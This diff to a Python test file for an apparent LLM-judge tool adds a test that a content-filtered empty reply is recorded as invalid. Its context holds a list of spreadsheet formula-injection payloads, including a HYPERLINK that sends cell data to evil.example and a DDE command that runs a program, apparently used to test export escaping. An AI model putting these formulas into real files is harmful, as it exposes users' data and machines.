@@ -10,10 +10,14 @@ import re
 
 import pytest
 from conftest import run_judgekit
+from servers import Reply, ScriptedServer
 
+from judgekit.data import load_dataset
 from judgekit.records import Example, Manifest, OrderResult, Verdict
 from judgekit.report.export import read_export
-from judgekit.runs.run_dir import RunDir
+from judgekit.runs.run_dir import RunDir, read_run
+
+BUNDLED = load_dataset("judgekit/bundled").examples
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3",
             "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'already quoted"]
@@ -60,3 +64,18 @@ def test_markdown_tables_show_names_as_text(tmp_path, monkeypatch, capsys):
             rows = [line for line in table.splitlines() if line.startswith("|")]
             widths = {len(re.findall(r"(?<!\\)\|", row)) for row in rows}  # unescaped bars: the columns
             assert len(widths) == 1, table
+
+
+def test_an_empty_reply_keeps_its_finish_reason_as_the_invalid_reason(tmp_path, monkeypatch, capsys):
+    filtered = BUNDLED[1].response_a
+
+    def answer(call):
+        return Reply("", finish_reason="content_filter") if filtered in call.prompt else "Output (a)"
+
+    with ScriptedServer(answer=answer) as server:
+        code, _, err = run_judgekit(monkeypatch, capsys, "run", "--judge", "openai:judge", "--base-url",
+                                    server.openai_url, "--protocol", "llmbar/vanilla", "--dataset", "judgekit/bundled",
+                                    "--limit", "3", "--out", tmp_path / "run", "--quiet")
+    assert code == 0, err
+    reasons = [v.invalid_reason for v in read_run(tmp_path / "run").verdicts]
+    assert reasons == [None, "content_filter", None]
